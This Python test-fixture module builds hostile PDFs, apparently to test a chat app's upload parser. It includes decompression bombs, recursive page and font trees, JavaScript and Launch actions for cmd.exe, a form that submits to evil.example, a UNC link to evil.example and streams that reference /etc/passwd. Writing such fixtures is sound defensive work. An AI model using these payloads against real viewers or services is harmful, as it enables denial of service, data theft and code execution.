"""PDF files that contain programs, files and forms, or grow large when references are followed."""

import zlib
from typing import Any

from tests.chatapp.uploads.hostile_pdfs import pdf, with_stream
from tests.chatapp.uploads.making import SECRET, zeros

PAGES = "<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]{}>>"
FONT = "/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>"
XFORM = b"<xdp:xdp xmlns:xdp='a'><script>app.alert(1)</script></xdp:xdp>"
HELVETICA = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
SAYS = b"BT /F 12 Tf (abcdefghijk) Tj ET"


def stream(data: bytes, head: str = "") -> bytes:
    return f"<<{head}/Length {len(data)}>>stream\n".encode() + data + b"\nendstream"


def one_page(more: str = "", catalogue: str = "", /, **objects: Any) -> bytes:
    """Write a PDF of one page with these entries; `o4` is object number 4, as str or bytes."""
    numbered = {int(name[1:]): content for name, content in objects.items()}
    first = {1: f"<</Type/Catalog/Pages 2 0 R{catalogue}>>"}
    return pdf({**first, 2: PAGES, 3: PAGE.format(more), **numbered})


def trees() -> dict[str, bytes]:
    deep = {
        n: f"<</Type/Pages/Kids[{n + 1} 0 R]/Count 1/Parent {n - 1} 0 R>>" for n in range(2, 3_000)
    }
    wide = {
        n: f"<</Type/Pages/Kids[{f'{n + 1} 0 R ' * 10}]/Count {10 ** (12 - n)}>>"
        for n in range(2, 12)
    }
    return {
        "pages 3,000 levels deep": pdf({**deep, 3_000: PAGE.format("")}),
        "ten billion pages in 11 objects": pdf({**wide, 12: PAGE.format("")}),
        "the same page 10,000 times": pdf(
            {2: f"<</Type/Pages/Kids[{'3 0 R ' * 10_000}]/Count 10000>>", 3: PAGE.format("")}
        ),
        "fewer pages than it says": pdf({2: PAGES.replace("1>>", "-5>>"), 3: PAGE.format("")}),
        "pages that are numbers": pdf({2: "<</Type/Pages/Kids[1 2 3 null true]/Count 5>>"}),
        "a page that is its own tree": pdf({2: "<</Type/Page/Kids[2 0 R]/MediaBox[0 0 9 9]>>"}),
        "a page without end": one_page("/MediaBox[-9e99 0 9e99 nan]/Rotate 1e9/UserUnit 1e30"),
    }


def contents() -> dict[str, bytes]:
    many = f"/Contents[{'4 0 R ' * 300}]/Resources<</Font<</F 5 0 R>>>>"
    form = "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F {} 0 R>>>>"
    forms = {f"o{n}": stream(b"/F Do " * 4, form.format(n + 1)) for n in range(4, 9)}
    return {
        "the same content 300 times": one_page(
            many, o4=stream(zlib.compress(SAYS * 10), "/Filter/FlateDecode"), o5=HELVETICA
        ),
        "forms within forms": one_page(
            "/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>", **forms, o9=stream(b"BT ET")
        ),
        "brackets without end": with_stream(zlib.compress(b"[" * 100_000)),
        "texts within texts": with_stream(zlib.compress(b"(" * 100_000)),
        "tables within tables": with_stream(zlib.compress(b"<<" * 50_000)),
        "a name of a megabyte": with_stream(zlib.compress(b"/" + b"a" * 1_000_000)),
        "states without end": with_stream(zlib.compress(b"q " * 300_000)),
        "a number of 10,000 digits": with_stream(zlib.compress(b"9" * 10_000 + b" Tf")),
        "a picture in the text of 60,000 a side": with_stream(
            zlib.compress(b"BI /W 60000 /H 60000 /BPC 8 /CS /RGB ID x EI")
        ),
        "5,000 pictures in the text": with_stream(
            zlib.compress(b"BI /W 1 /H 1 /BPC 8 /CS /G ID x EI " * 5_000)
        ),
        "words in no order": with_stream(zlib.compress(b"Tj Tf BT ET Td ' \" TJ cm Q Do " * 999)),
    }


def filters() -> dict[str, bytes]:
    lengths = bytes((129, 0)) * 150_000
    shape = "/Filter/FlateDecode/DecodeParms<</Predictor 15/Colors {}/Columns {}>>"
    return {
        "lengths of runs": with_stream(lengths, "/RunLengthDecode"),
        "words of zeros": with_stream(b"\x80\x0b\x60\x50\x22\x0c\x0c" * 9_999, "/LZWDecode"),
        "digits packed in digits": with_stream(
            b"z" * 200_000 + b"~>", "/ASCII85Decode/ASCIIHexDecode"
        ),
        "500 filters": with_stream(zlib.compress(b"BT ET"), "/FlateDecode" * 500),
        "an unknown filter": with_stream(b"abc", "/Evil"),
        "a filter of a file": with_stream(b"abc", "/Crypt/F(/etc/passwd)"),
        "lines of a billion columns": one_page(
            "/Contents 4 0 R/Resources<<>>",
            o4=stream(zlib.compress(bytes(999)), shape.format(1, 10**9)),
        ),
        "a billion colours": one_page(
            "/Contents 4 0 R/Resources<<>>",
            o4=stream(zlib.compress(bytes(999)), shape.format(10**9, 1)),
        ),
        "a stream of another file": one_page(FONT, o4=stream(b"", "/F(/etc/passwd)")),
    }


def fonts() -> dict[str, bytes]:
    def mapped(*lines: bytes) -> bytes:
        text = b"begincmap 1 begincodespacerange <00> <FF> endcodespacerange " + b" ".join(lines)
        font = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>"
        return one_page(FONT, o4=stream(SAYS), o5=font, o6=stream(text + b" endcmap"))

    wide = "<</Type/Font/Subtype/Type0/BaseFont/A/DescendantFonts[<</Type/Font/Subtype/CIDFontType2"
    return {
        "letters that stand for 4 billion": mapped(
            b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange"
        ),
        "letters that are half pairs": mapped(b"1 beginbfrange <61> <6b> <D800> endbfrange"),
        "letters that are nothing": mapped(b"1 beginbfrange <61> <6b> <0000> endbfrange"),
        "letters that turn the line": mapped(b"1 beginbfchar <61> <202E> endbfchar"),
        "a letter of 50,000 signs": mapped(
            b"1 beginbfchar <61> <" + b"0041" * 50_000 + b"> endbfchar"
        ),
        "a table of letters without end": mapped(b"1 beginbfrange <61> <6b> <0041>"),
        "a billion widths": one_page(FONT, o4=stream(SAYS), o5=f"{wide}/W[0 1000000000 9]>>]>>"),
        "a font that is its own": one_page(
            FONT, o4=stream(SAYS), o5="<</Type/Font/Subtype/Type0/DescendantFonts[5 0 R]>>"
        ),
        "a billion differences": one_page(
            FONT,
            o4=stream(SAYS),
            o5="<</Type/Font/Subtype/Type1/Encoding<</Differences[1000000000/a]>>>>",
        ),
    }


def programs() -> dict[str, bytes]:
    """Return PDFs with things that viewers would run, open or send; only their text may be kept."""
    inside = "/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/EF<</F 9 0 R>>>>]>>>>"
    does = {
        "a script of a page": "/AA<</O<</S/JavaScript/JS(app.alert(1))>>>>",
        "a program to launch": "/AA<</O<</S/Launch/F(cmd.exe)>>>>",
        "a form that sends itself": "/AA<</O<</S/SubmitForm/F(http://evil.example)>>>>",
        "a page of another file": "/AA<</O<</S/GoToR/F(\\\\\\\\evil.example\\\\a)/D[0]>>>>",
        "a film": "/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]",
        "notes that are each other": "/Annots[9 0 R 9 0 R]",
        "a thread of beads": "/B[9 0 R]",
    }
    of_all = {
        "a script by name": "/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(alert(1))>>]>>>>",
        "a form of XML": "/AcroForm<</XFA 9 0 R/Fields[9 0 R]>>",
        "an embedded program": inside,
        "names that are their own": "/Names<</Dests 9 0 R>>/Dests 9 0 R",
        "outlines that loop": "/Outlines<</First 9 0 R/Last 9 0 R/Count 99999>>",
        "layers that loop": "/OCProperties<</OCGs[9 0 R]/D<</Order[9 0 R[9 0 R]]>>>>",
        "labels of pages that loop": "/PageLabels<</Kids[9 0 R]>>",
        "metadata with entities": "/Metadata 9 0 R",
        "a structure that loops": "/StructTreeRoot<</K 9 0 R/ParentTree 9 0 R>>",
    }
    loop = stream(SECRET + XFORM, "/Kids[9 0 R]/Next 9 0 R/First 9 0 R/K 9 0 R")
    text = {"o4": stream(SAYS), "o5": HELVETICA}
    return {
        **{name: one_page(FONT + entry, **text, o9=loop) for name, entry in does.items()},
        **{name: one_page(FONT, entry, **text, o9=loop) for name, entry in of_all.items()},
    }


def pictures() -> dict[str, bytes]:
    def shown(head: str, data: bytes, **objects: str) -> bytes:
        head = "/Type/XObject/Subtype/Image/BitsPerComponent 8" + head
        page = "/Resources<</XObject<</I 4 0 R>>>>"
        return one_page(page, o4=stream(data, head), **objects)

    large = "/Width 2000/Height 2000"
    rgb = zeros(size=2_000 * 6_000)
    return {
        "a scan of 12 MB in 12 kB": shown(f"{large}/ColorSpace/DeviceRGB/Filter/FlateDecode", rgb),
        "a scan with less in it than it says": shown(f"{large}/ColorSpace/DeviceRGB", b"x"),
        "a scan that masks itself": shown("/Width 9/Height 9/SMask 4 0 R", bytes(81)),
        "a scan whose colours are its own": shown(
            "/Width 9/Height 9/ColorSpace 5 0 R", bytes(81), o5="[/Indexed 5 0 R 255 5 0 R]"
        ),
        "a scan of a billion colours": shown(
            "/Width 9/Height 9/ColorSpace[/Indexed/DeviceRGB 1000000000<00>]", bytes(81)
        ),
        "a fax of 60,000 a side": shown(
            "/Width 60/Height 60/Filter/CCITTFaxDecode/DecodeParms<</Columns 60000/Rows 60000>>",
            b"\0" * 99,
        ),
        "a scan in JBIG2": shown("/Width 60/Height 60/Filter/JBIG2Decode", b"\0" * 99),
        "a scan in JPEG 2000": shown("/Width 60/Height 60/Filter/JPXDecode", b"\0\0\0\x0cjP  "),
        "a scan of less than nothing": shown("/Width -9/Height -9", b"x"),
        "a scan whose size is a text": shown("/Width(a)/Height[]", b"x"),
    }


def hostile_documents() -> dict[str, bytes]:
    parts = (trees(), contents(), filters(), fonts(), programs(), pictures())
    return {name: data for part in parts for name, data in part.items()}
